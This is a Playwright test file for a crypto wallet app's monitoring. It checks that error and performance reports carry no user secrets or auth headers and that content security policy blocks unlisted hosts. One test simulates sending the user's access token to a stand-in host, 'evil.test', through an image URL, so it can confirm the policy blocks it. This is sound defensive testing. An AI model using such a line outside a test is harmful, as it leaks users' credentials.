import { type Page, test as base, expect } from '@playwright/test';
import { z } from 'zod';
import { ChangedBuild } from '../../../scripts/changed-build.ts';
import { Collector } from '../support/monitoring-collector.ts';
import { withoutWarning } from '../support/fixtures.ts';
import { said } from '../support/texts.ts';
import { serveValues } from '../support/serve-values.ts';

/** All that a collector may receive; docs/operating.md says the same. */
const fault = z.strictObject({
  kind: z.enum(['error', 'rejection', 'logged']),
  screen: z.string(),
  name: z.string(),
  stack: z.array(z.string().regex(/^[\w-]+\.js:\d+:\d+$/)),
  note: z.string().optional(),
});
const policy = z.strictObject({
  kind: z.literal('policy'),
  screen: z.string(),
  directive: z.string(),
  blocked: z.string(),
});
const metric = z.strictObject({
  kind: z.literal('metric'),
  screen: z.string(),
  name: z.string(),
  value: z.number(),
  rating: z.string(),
});
const message = z.strictObject({
  version: z.string(),
  build: z.string().regex(/^app-[\w-]+\.js$/),
  runtime: z.literal('web'),
  language: z.literal('en'),
  browser: z.literal('chromium'),
  entries: z.array(z.discriminatedUnion('kind', [fault, policy, metric])).min(1),
});

const amount = '0.137246';
const recipient = '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed';
const build = new ChangedBuild();
const collector = new Collector();
let url = '';

interface User {
  readonly name: string;
  readonly accessToken: string;
  readonly loginToken: string;
}

const test = base.extend<{ user: User }>({
  user: async ({ request, context }, use) => {
    const user: User = await (await request.post(`${build.url}/sandbox/users`, { data: { like: 'demo' } })).json();
    await withoutWarning(context);
    await context.setExtraHTTPHeaders({ 'x-sandbox-user': user.name });
    await use(user);
  },
});

// All tests share one build and one collector.
test.describe.configure({ mode: 'default' });

test.beforeAll(async () => {
  test.setTimeout(120_000);
  url = await collector.start();
  build.edit<{ monitoring: object }>('environments/sandbox', (environment) => {
    environment.monitoring = { url, share: 1 };
  });
  await build.serve();
});
test.beforeEach(() => collector.messages.splice(0));
test.afterAll(async () => {
  collector.stop();
  await build.remove();
});

/** The entries so far, each checked, and none of them with one of the texts. */
function entries(secrets: readonly string[] = []) {
  return collector.messages.flatMap(({ body }) => {
    for (const secret of secrets) expect(body).not.toContain(secret);
    return message.parse(JSON.parse(body)).entries;
  });
}

/** Leaves a page that was used, and waits for its last message: the next test counts its own ones. */
async function leave(page: Page, screen: string): Promise<void> {
  await page.goto('about:blank');
  await expect
    .poll(() => entries().flatMap((entry) => (entry.kind === 'metric' && entry.screen === screen ? [entry.name] : [])))
    .toEqual(expect.arrayContaining(['CLS', 'INP']));
}

/** Texts that occur only in the code of a part: monitoring, and what is loaded at the same time in any case. */
const marks = { monitoring: 'needs-improvement', later: 'a route failed:' };

/** Waits until the page has loaded a part; returns the address of its code. */
async function loads(page: Page, part: keyof typeof marks): Promise<string> {
  const answer = await page.waitForResponse(
    async (one) => one.url().endsWith('.js') && (await hasMark(one.text(), part)),
  );
  return answer.url();
}

/** Whether code is that of a part. */
async function hasMark(code: Promise<string>, part: keyof typeof marks): Promise<boolean> {
  return (await code.catch(() => '')).includes(marks[part]);
}

/** Goes to the review of a form. */
async function review(page: Page): Promise<void> {
  const input = page.getByRole('textbox', { name: said('sell.amount'), exact: true });
  await expect(input).toHaveAccessibleDescription(/Available:/);
  await input.fill(amount);
  await page.getByRole('button', { name: said('action.continue') }).click();
  await page.getByRole('textbox', { name: said('sell.address') }).fill(recipient);
  await page.getByRole('button', { name: said('action.continue') }).click();
  await expect(page.getByRole('main')).toContainText(amount);
}

test('what goes wrong and how fast a page is are reported, and nothing of the user', async ({ page, user }) => {
  const secrets = [amount, recipient, user.name, user.accessToken, user.loginToken, 'currency', 'localhost'];
  const violations: string[] = [];
  page.on('console', (line) => {
    if (/content security policy/i.test(line.text())) violations.push(line.text());
  });
  await page.addInitScript((text) => {
    addEventListener('DOMContentLoaded', () => {
      throw new RangeError(text);
    });
  }, secrets.join(' '));

  const isLoaded = loads(page, 'monitoring');
  await page.goto(`${build.url}/wallet/send?currency=xaut`);
  await page.getByRole('textbox', { name: said('send.amount'), exact: true }).fill(amount);
  await page.getByRole('textbox', { name: said('send.address') }).fill(recipient);
  const code = await isLoaded;
  await page.getByRole('button', { name: said('action.continue') }).click();
  await expect(page.getByRole('main')).toContainText(amount);
  await page.evaluate((text) => {
    setTimeout(() => {
      throw Object.assign(new TypeError(`${text}\n    at f (${location.origin}/assets/${text}.js:1:2)`));
    });
    void Promise.reject(Object.assign(new Error(text), { name: text }));
  }, secrets.join(' '));
  await expect
    .poll(() => entries(secrets).filter(({ kind }) => kind === 'error' || kind === 'rejection'))
    .toEqual([
      // Before monitoring was loaded.
      { kind: 'error', screen: '/wallet/send', name: 'RangeError', stack: [] },
      { kind: 'error', screen: '/wallet/send', name: 'TypeError', stack: [] },
      { kind: 'rejection', screen: '/wallet/send', name: 'other', stack: [] },
    ]);

  await page.goto(`${build.url}/wallet/sell?currency=xaut&network=erc20`);
  await page.waitForFunction((name) => performance.getEntriesByName(name).length > 0, code);
  await review(page);
  await leave(page, '/wallet/sell');
  await expect
    .poll(() => new Set(entries(secrets).flatMap((entry) => (entry.kind === 'metric' ? [entry.name] : []))))
    .toEqual(new Set(['TTFB', 'FCP', 'LCP', 'CLS', 'INP']));
  await expect
    .poll(() => new Set(entries(secrets).map(({ screen }) => screen)))
    .toEqual(new Set(['/wallet/send', '/wallet/sell']));
  for (const { headers } of collector.messages) {
    expect(headers).not.toHaveProperty('cookie');
    expect(headers).not.toHaveProperty('authorization');
    expect(headers).not.toHaveProperty('referer');
    expect(headers['content-type']).toBe('text/plain;charset=utf-8');
  }
  expect(violations).toEqual([]);
});

test('an error in the code of the app is reported by its places, and a violation of the policy by its origin', async ({
  page,
  user,
}) => {
  const isLoaded = loads(page, 'monitoring');
  await page.goto(`${build.url}/wallet?currency=xaut`);
  await isLoaded;
  await page.evaluate((text) => {
    history.pushState = () => {
      throw new RangeError(text);
    };
    new Image().src = `https://evil.test/${text}?token=${text}`;
  }, user.accessToken);
  await page.getByRole('main').locator('a[href^="/wallet/send?"]').click();
  const faults = () => entries([user.accessToken]).filter(({ kind }) => kind !== 'metric');
  await expect
    .poll(() => faults().map(({ kind }) => kind))
    .toEqual(expect.arrayContaining(['policy', expect.stringMatching(/error|rejection/)]));
  expect(faults()).toContainEqual({
    kind: 'policy',
    screen: '/wallet',
    directive: 'img-src',
    blocked: 'https://evil.test',
  });
  expect(faults()).toContainEqual(
    expect.objectContaining({
      name: 'RangeError',
      stack: expect.arrayContaining([expect.stringMatching(/^vendor-[\w-]+\.js:\d+:\d+$/)]),
    }),
  );
  await leave(page, '/wallet');
});

for (const [state, off] of [
  ['without an address', { url: '', share: 1 }],
  ['with a share of 0', { share: 0 }],
] as const)
  test(`${state} nothing is sent, and the code is not loaded`, async ({ page, user }) => {
    await serveValues(page, ({ app }) => {
      app.monitoring = { url, ...off };
    });
    const scripts: Promise<boolean>[] = [];
    page.on('response', (answer) => {
      if (answer.url().endsWith('.js')) scripts.push(hasMark(answer.text(), 'monitoring'));
    });
    const later = loads(page, 'later');
    await page.goto(`${build.url}/wallet/send?currency=xaut`);
    await later;
    await page.waitForLoadState('networkidle');
    await page.evaluate((text) => {
      setTimeout(() => {
        throw new Error(text);
      });
    }, user.name);
    await page.goto('about:blank');
    expect(await Promise.all(scripts)).not.toContain(true);
    expect(collector.messages).toEqual([]);
  });

test('a collector that the policy does not name disturbs nothing and gets no report', async ({ page, user }) => {
  const blocked: string[] = [];
  const faults: Error[] = [];
  page.on('pageerror', (error) => faults.push(error));
  await page.exposeFunction('onBlocked', (uri: string) => blocked.push(uri));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ blockedURI }) => Reflect.get(window, 'onBlocked')(blockedURI));
  });
  await serveValues(page, ({ app }) => {
    app.monitoring = { url: `https://other.test/${user.name}`, share: 1 };
  });
  await page.goto(`${build.url}/wallet/sell?currency=xaut&network=erc20`);
  await expect.poll(() => blocked.length).toBeGreaterThan(0);
  await review(page);
  expect(faults).toEqual([]);
  expect(blocked.length).toBeLessThanOrEqual(2);
  expect(collector.messages).toEqual([]);
});
